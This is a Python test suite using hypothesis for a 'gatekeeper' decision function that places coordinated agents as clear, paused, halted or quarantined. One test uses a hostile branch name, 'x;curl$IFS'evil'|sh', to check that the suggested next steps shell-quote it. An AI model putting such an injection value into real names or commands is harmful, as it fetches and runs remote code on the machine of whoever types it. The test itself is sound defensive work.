"""The one decision function, over random fleets: everybody stands somewhere, for a reason, and never for ever."""

from __future__ import annotations

import shlex
from dataclasses import replace

from hypothesis import given
from hypothesis import strategies as st

from gatekeeper.core.ledger.case_records import CaseRecord, IntegrationRecord, PrecedenceRecord
from gatekeeper.core.ledger.records import EventId, FoundProblem
from gatekeeper.core.ledger.state import NoRecords
from gatekeeper.core.names import AgentName, Severity
from gatekeeper.core.policy.decide import Verdict, decide
from gatekeeper.core.policy.precedence import Precedence
from gatekeeper.core.policy.standing import Standing
from gatekeeper.core.policy.trusted import Quarantine, Trusted
from gatekeeper.core.roster import AgentSpec, PhaseName, PhaseSpec, Principal, RoleName, Roster
from tests.core.fleets import DECLARED, NAMES, Fleet, fleets, found, mirrored, oid, problems, ref, rosters
from tests.core.ledger_events import START

ANN, BOB, CLEO, DAN, EVE, FINN = NAMES
LEAD = Principal("lead@example.org")


def decided(fleet: Fleet, *standing: FoundProblem) -> Verdict:
    return decide(standing, fleet.state, fleet.roster, fleet.trusted)


def standings(verdict: Verdict) -> dict[AgentName, Standing]:
    return {agent: decision.standing for agent, decision in verdict.decisions.items()}


@given(rosters(), fleets(), st.sets(st.sampled_from(NAMES), max_size=2))
def test_everybody_stands_in_one_place_for_reasons_that_exist(
    roster: Roster, standing: tuple[FoundProblem, ...], apart: set[AgentName]
) -> None:
    # nobody waits without findings, and without a named next step.
    ids = tuple(problem.id for problem in standing)
    placed = {name: Quarantine(EventId("q"), LEAD, ids, "to free the others") for name in apart}
    fleet = Fleet(NoRecords(), roster, Trusted(quarantined=placed))
    fleet.look(*standing)
    verdict = decided(fleet, *standing)
    assert set(verdict.decisions) >= {*DECLARED, *(agent for problem in standing for agent in problem.agents)} - {
        agent for problem in standing if problem.rank is Severity.NOTE for agent in problem.agents
    }
    for decision in verdict.decisions.values():
        assert decision.standing is max(
            (reason.standing for reason in decision.reasons), key=lambda word: word.rank, default=Standing.CLEAR
        )
        for reason in decision.reasons:
            assert reason.findings
            assert set(reason.findings) <= set(ids)
            assert reason.message
            assert reason.next_step
    quarantined = {agent for agent, word in standings(verdict).items() if word is Standing.QUARANTINED}
    concerned = {a for problem in standing if problem.rank > Severity.NOTE for a in problem.agents}
    assert quarantined == apart & concerned


@given(rosters(), fleets(severities=("note", "minor")))
def test_nobody_is_stopped_for_a_minor_and_whoever_goes_first_is_free(
    roster: Roster, standing: tuple[FoundProblem, ...]
) -> None:
    #
    fleet = Fleet(NoRecords(), roster)
    fleet.look(*standing)
    verdict = decided(fleet, *standing)
    assert not any(decision.standing.stops for decision in verdict.decisions.values())
    order = Precedence.of(roster, fleet.state)
    for problem in standing:
        first = order.first(problem.agents)
        assert all(problem.id not in reason.findings for reason in verdict.of(first).reasons)
    meeting = {a for p in standing if p.rank is Severity.MINOR and len(p.sides) > 1 for a in p.agents}
    assert not meeting or any(verdict.of(agent).standing is Standing.CLEAR for agent in meeting)


@given(rosters(), fleets(), fleets())
def test_when_everything_is_settled_everybody_is_clear(
    roster: Roster, standing: tuple[FoundProblem, ...], later: tuple[FoundProblem, ...]
) -> None:
    fleet = Fleet(NoRecords(), roster)
    for seen in (standing, later, ()):
        fleet.look(*seen)
    assert set(standings(decided(fleet)).values()) <= {Standing.CLEAR}
    assert not list(fleet.state.each(CaseRecord))
    assert fleet.look() == []


@given(rosters(), fleets())
def test_a_finding_told_from_the_other_side_decides_the_same(
    roster: Roster, standing: tuple[FoundProblem, ...]
) -> None:
    fleet = Fleet(NoRecords(), roster)
    fleet.look(*standing)
    turned = tuple(map(mirrored, standing))
    assert standings(decided(fleet, *standing)) == standings(decided(fleet, *turned))


@given(rosters(), st.lists(fleets(), max_size=5))
def test_who_goes_first_never_changes_while_both_are_there(
    roster: Roster, looks: list[tuple[FoundProblem, ...]]
) -> None:
    fleet = Fleet(NoRecords(), roster)
    before: dict[tuple[AgentName, AgentName], bool] = {}
    for standing in looks:
        fleet.look(*standing)
        assert fleet.look(*standing) == []
        order = Precedence.of(roster, fleet.state)
        line = [record.agent for _, record in fleet.state.each(PrecedenceRecord)]
        for one in line:
            for other in line:
                first = order.rank(one) < order.rank(other)
                assert before.setdefault((one, other), first) == first
        for name, spec in roster.agents.items():
            for needed in spec.depends_on:
                assert order.rank(needed) < order.rank(name)


@given(rosters(), fleets())
def test_strays_halt_nobody(roster: Roster, standing: tuple[FoundProblem, ...]) -> None:
    # only agents that the configuration names can halt a phase.
    strays = tuple(
        replace(problem, sides=tuple(side for side in problem.sides if not set(side.agents) & set(DECLARED)))
        for problem in standing
    )
    only = tuple(problem for problem in strays if problem.sides)
    verdict = decided(Fleet(NoRecords(), roster), *only)
    assert Standing.HALTED not in standings(verdict).values()
    assert {verdict.of(name).standing for name in DECLARED} == {Standing.CLEAR}


@given(rosters(), st.lists(problems(severities=("minor",)), min_size=1, max_size=6))
def test_in_the_end_all_have_landed(roster: Roster, standing: list[FoundProblem]) -> None:
    # a chain or a knot of minors unties itself, one landing after another.
    fleet = Fleet(NoRecords(), roster)
    left = [problem for problem in standing if len(problem.sides) > 1]
    fleet.look(*left)
    waiting = set(NAMES)
    while waiting:
        verdict = decided(fleet, *left)
        free = sorted(agent for agent in waiting if verdict.of(agent).standing is Standing.CLEAR)
        assert free, "somebody can always go on"
        waiting.discard(free[0])
        fleet.landed.add(free[0])
        left = [problem for problem in left if free[0] not in problem.agents]
        fleet.look(*left)
        due = [record.agent for _, record in fleet.state.each(IntegrationRecord)]
        for agent in due:
            reasons = decided(fleet, *left).of(agent).reasons
            assert any(f"gatekeeper integrate {agent}" in reason.next_step for reason in reasons)
        fleet.look(*left, taken_in=due)
    assert not list(fleet.state.each(PrecedenceRecord))


def two_phases() -> Roster:
    specs = {name: AgentSpec(name, ref(name)) for name in DECLARED}
    first, second = PhaseName("first"), PhaseName("second")
    phases = {first: PhaseSpec(first, (ANN, BOB, CLEO)), second: PhaseSpec(second, (DAN,))}
    return Roster(agents=specs, phases=phases)


def test_a_critical_halts_the_phase_of_those_concerned_and_no_other() -> None:
    #
    fleet = Fleet(NoRecords(), two_phases())
    broken = found("f1", "critical", [["ann"], ["bob"]])
    fleet.look(broken)
    verdict = decided(fleet, broken)
    assert standings(verdict) == {
        **dict.fromkeys((ANN, BOB, CLEO), Standing.HALTED),
        DAN: Standing.CLEAR,
    }
    (case,) = (record for _, record in fleet.state.each(CaseRecord))
    assert (case.matter.kind, case.matter.owner, case.matter.phases) == ("incident", "coordinator", ("first",))
    assert "gatekeeper resume" in (verdict.of(CLEO).next_step or "")


def test_a_branch_whose_name_is_a_command_gives_none_to_those_who_follow_their_next_step() -> None:
    # Git allows all of this in the name of a branch, and next steps are there to be typed.
    evil = AgentName("x;curl$IFS'evil'|sh")
    met = found("f1", "minor", [["ann"], [evil]])
    fleet = Fleet(NoRecords(), two_phases())
    fleet.heads[evil] = oid(9)
    fleet.look(met)
    steps = [reason.next_step for reason in decided(fleet, met).of(evil).reasons]
    placed = Quarantine(EventId("q"), LEAD, (met.id,), "it is hostile")
    fleet.trusted = Trusted(quarantined={evil: placed})
    steps += [reason.next_step for reason in decided(fleet, met).of(evil).reasons]
    due = IntegrationRecord(evil, (ANN,), (met.id,), oid(1), START, published=oid(2))
    fleet.state.put({(IntegrationRecord, evil): due})
    fleet.look()
    steps.append(decided(fleet).of(evil).next_step or "")
    for step, word in zip(steps, (evil, evil, f"refs/gatekeeper/integrated/{evil}"), strict=True):
        assert shlex.quote(word) in step
        assert evil not in step


def test_the_turn_is_of_somebody_who_is_no_party_by_any_finding_of_the_case() -> None:
    architect, ops = Principal("cleo"), Principal("ops@example.org")
    roles = {RoleName("architect"): (architect,), RoleName("coordinator"): (ops,)}
    fleet = Fleet(NoRecords(), replace(two_phases(), roles=roles))
    both = found("f1", "major", [["ann"], ["bob"]])
    other = replace(found("f2", "major", [["ann"], ["cleo"]]), path=both.path, key=both.key)
    fleet.look(both, other)
    for agent in (ANN, BOB, CLEO):
        (reason,) = decided(fleet, both, other).of(agent).reasons
        assert reason.waits_for == ("coordinator",)
        assert reason.next_step.startswith("the coordinator: ")


def test_a_critical_with_a_stray_stops_those_two_alone() -> None:
    fleet = Fleet(NoRecords(), two_phases())
    broken = found("f1", "critical", [["ann"], ["eve"]])
    fleet.look(broken)
    expected = dict.fromkeys((BOB, CLEO, DAN), Standing.CLEAR) | dict.fromkeys((ANN, EVE), Standing.PAUSED)
    assert standings(decided(fleet, broken)) == expected


def test_to_set_one_apart_frees_the_others() -> None:
    # what keeps a halt from becoming a deadlock.
    fleet = Fleet(NoRecords(), two_phases())
    broken = found("f1", "critical", [["ann"], ["bob"]])
    fleet.look(broken)
    fleet.trusted = Trusted(quarantined={BOB: Quarantine(EventId("q"), LEAD, (broken.id,), "broken for now")})
    fleet.look(broken)
    assert standings(decided(fleet, broken)) == {
        **dict.fromkeys((ANN, CLEO, DAN), Standing.CLEAR),
        BOB: Standing.QUARANTINED,
    }
    assert not list(fleet.state.each(CaseRecord))


def test_who_reorganises_pauses_alone_before_anything_halts() -> None:
    # R-14 before R-13
    fleet = Fleet(NoRecords(), two_phases())
    moved = found("f1", "critical", [["cleo"], ["ann"]], rule="pkg-name-renamed", taking=0)
    fleet.look(moved)
    assert standings(decided(fleet, moved)) == {
        **dict.fromkeys((ANN, BOB, DAN), Standing.CLEAR),
        CLEO: Standing.PAUSED,
    }
    (case,) = (record for _, record in fleet.state.each(CaseRecord))
    assert (case.matter.kind, case.matter.author, case.matter.owner) == ("reorganisation", CLEO, "architect")


def test_what_is_waived_decides_nothing_and_what_is_expected_does() -> None:
    #
    broken = found("f1", "major", [["ann"], ["bob"]])
    fleet = Fleet(NoRecords(), two_phases(), Trusted(waived=frozenset({"f1"})))
    fleet.look(broken)
    assert set(standings(decided(fleet, broken)).values()) == {Standing.CLEAR}
    fleet.trusted = Trusted()
    expected = replace(broken, expected_because="agreed")
    fleet.look(expected)
    assert {decided(fleet, expected).of(name).standing for name in (ANN, BOB)} == {Standing.PAUSED}


def test_priority_goes_before_who_was_there_first_and_what_others_wait_for_before_both() -> None:
    specs = {
        ANN: AgentSpec(ANN, ref(ANN), priority=5, depends_on=(BOB,)),
        BOB: AgentSpec(BOB, ref(BOB), priority=-5),
        CLEO: AgentSpec(CLEO, ref(CLEO), priority=1),
    }
    order = Precedence(Roster(agents=specs), {CLEO: 1, EVE: 2, ANN: 3, BOB: 4})
    assert sorted([ANN, BOB, CLEO, EVE, FINN], key=order.rank) == [BOB, ANN, CLEO, EVE, FINN]
    by_time = Precedence(Roster(agents=specs, precedence=("first-seen", "priority")), {CLEO: 1, ANN: 3, BOB: 4})
    assert sorted([ANN, BOB, CLEO], key=by_time.rank) == [CLEO, BOB, ANN]


def test_all_who_take_the_same_away_are_its_authors() -> None:
    # what may proceed, may proceed for each of them, so that each of them is asked what it breaks.
    fleet = Fleet(NoRecords(), two_phases())
    moved = found("f1", "critical", [["bob", "cleo"], ["ann"]], rule="pkg-name-renamed", taking=0)
    fleet.look(moved)
    (case,) = (record for _, record in fleet.state.each(CaseRecord))
    assert case.matter.authors == (BOB, CLEO)
    paused = {agent for agent, standing in standings(decided(fleet, moved)).items() if standing is Standing.PAUSED}
    assert paused == {BOB, CLEO}
